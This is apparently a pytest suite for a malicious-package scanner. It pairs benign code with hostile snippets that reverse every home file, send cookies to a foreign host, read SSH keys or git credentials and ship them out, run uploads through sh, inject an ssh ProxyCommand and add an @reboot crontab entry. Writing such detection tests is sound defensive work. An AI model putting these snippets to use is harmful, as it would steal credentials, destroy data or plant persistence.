"""What was taken for harm in tools of honest packages, and the harm beside it that is still found."""

import pytest
from weighed import worst, worst_script

from ostiary.core.scale import Severity
from ostiary.formats.content import classify
from ostiary.formats.contents import Kind
from ostiary.program.hidden import oddities

INIT = "sample/__init__.py"

CACHE = """
import os, pathlib
HOME = pathlib.Path(os.path.expanduser("~"))
found = [one.read_text() for one in (HOME / "fonts").iterdir()]
"""


def test_one_file_below_the_home_is_no_other_each_time() -> None:
    kept = '(HOME / ".cache" / "sample" / "fonts.json").write_text("".join(found))\n'
    each = "for one in HOME.iterdir():\n    one.write_text(one.read_text()[::-1])\n"
    assert worst("destruction", CACHE + kept, INIT) is None
    assert worst("destruction", CACHE + each, INIT) is Severity.CRITICAL


COOKIE = (
    "const x = document.cookie;\n"
    "export const ask = (u) => fetch({}, {{ headers: {{ 'X-XSRF': x }} }});\n"
)


@pytest.mark.parametrize(
    ("address", "own"),
    [
        ("'./state'", True),
        ("'../flows/' + u", True),
        ("'/state'", True),
        ("'//c.example.invalid/'", False),
        ("'https://c.example.invalid/'", False),
    ],
)
def test_a_page_asks_its_own_site(address: str, own: bool) -> None:
    found = worst_script("stealer", COOKIE.format(address)) or Severity.INFO
    assert found <= Severity.LOW if own else found >= Severity.HIGH


PRINTS = """
import subprocess, requests
def ask():
    said = subprocess.check_output({command}).decode()
    requests.get("https://a.example.com/api", params={{"p": said}})
"""


@pytest.mark.parametrize(
    ("command", "told"),
    [
        (
            '["git", "-c", "credential.helper=", "-c", "core.sshCommand=", "rev-parse", "HEAD"]',
            False,
        ),
        ('["git", "credential", "fill"]', True),
        ('"cat ~/.ssh/id_rsa", shell=True', True),
    ],
)
def test_settings_of_a_command_are_no_credentials(command: str, told: bool) -> None:
    assert (worst("stealer", PRINTS.format(command=command)) is not None) is told


CAMERA = "import subprocess\ndef take(path):\n    subprocess.run([{words}, path])\n"


def test_a_camera_that_waits_has_no_window_to_hide() -> None:
    assert worst("attack-command", CAMERA.format(words='"imagesnap", "-w", "1.0"')) is None
    hidden = CAMERA.format(words='"powershell", "-w", "1", "-File"')
    assert worst("attack-command", hidden) is not None


READS = """
import subprocess, tempfile, fastapi
app = fastapi.FastAPI()
@app.post("/probe")
def probe(data: bytes):
    fd, path = tempfile.mkstemp()
    open(path, "wb").write(data)
    return subprocess.run([{words}, path], capture_output=True).stdout
"""


def test_a_reader_of_files_runs_none() -> None:
    assert (worst("dropper", READS.format(words='"ffprobe", "-v", "quiet"')) or 0) <= Severity.LOW
    assert worst("dropper", READS.format(words='"sh"')) is Severity.CRITICAL


ELSEWHERE = """
import requests, subprocess
def setup(server):
    host = requests.get(f"https://api.example.com/servers/{{server}}").json()["ip"]
    subprocess.run([{words}])
"""


@pytest.mark.parametrize(
    ("words", "most"),
    [
        (
            '"ssh", "-o", "BatchMode=yes", f"ubuntu@{host}", "sudo sh -c \'a && b\'"',
            1,
        ),
        ('"ssh", "-o", f"ProxyCommand=sh -c {host}", "ubuntu@a", "true"', 4),
    ],
)
def test_what_a_machine_elsewhere_is_told(words: str, most: int) -> None:
    found = (
        worst("dropper", ELSEWHERE.replace("{{server}}", "{server}").replace("{words}", words)) or 0
    )
    assert found <= most if most == 1 else found >= Severity.MEDIUM


def test_a_line_of_a_shell_goes_on_behind_the_other_machine() -> None:
    line = "import os\nos.system(\"ssh a@b.example 'crontab -l' {}\")\n"
    assert worst("persistence", line.format(""), INIT) is None
    more = "; (echo '@reboot sh /tmp/x') | crontab -"
    assert worst("persistence", line.format(more), INIT) is not None


def test_headers_of_c_are_no_script() -> None:
    code = b"".join(b"function f%d() {\n  return require('a');\n}\n" % n for n in range(9))
    assert classify("x/locale", code)[0] is Kind.JAVASCRIPT
    header = b"// -*- C++ -*-\n/* words */\n#ifndef LOCALE\n"
    assert classify("x/locale", header + code)[0] is Kind.TEXT
    assert classify("x/locale", b"/* #ifndef */\n" + code)[0] is Kind.JAVASCRIPT


def test_the_region_of_a_flag_hides_nothing() -> None:
    flag = "\U0001f3f4" + "".join(
        f"\u200d{one}" for one in "\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067"
    )
    text = 'a = "{}\u200d\U000e007f"\n'
    assert not oddities(text.format(flag).encode())
    assert oddities(text.format(flag[1:] * 3).encode())
